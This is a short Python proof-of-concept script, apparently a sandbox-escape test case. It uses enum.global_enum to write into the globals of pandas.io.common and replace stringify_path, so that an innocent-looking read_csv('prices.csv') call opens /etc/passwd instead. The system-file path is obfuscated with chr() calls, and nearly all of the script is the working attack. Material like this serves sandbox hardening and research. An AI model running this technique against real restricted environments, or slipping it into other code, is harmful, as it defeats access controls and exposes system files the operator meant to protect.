# source: CPython enum docs, enum.global_enum() "updates the module's namespace" (https://docs.python.org/3.11/library/enum.html#enum.global_enum)
#         + pyjail idea "overwrite a global of another module to redirect what it calls" (module poisoning, as in
#           RestrictedPython/open-chat-studio "shared-module poisoning" finding, https://github.com/dimagi/open-chat-studio/pull/4238)
# family: write into another (not allowed) module's globals by name: Enum(..., module="<any module>") + enum.global_enum
# goal: replace pandas.io.common.stringify_path, so an accepted literal relative read_csv("prices.csv") opens /etc/passwd
import enum
import functools
import pandas as pd

target = "".join([chr(47), "etc", chr(47), "passwd"])


def redirect(path, *a, **k):
    return target


Hooks = enum.Enum("Hooks", [("stringify_path", (redirect,))], module="pandas.io.common", type=functools.partial)
enum.global_enum(Hooks)
print(pd.read_csv("prices.csv", sep="|", header=None).to_string())
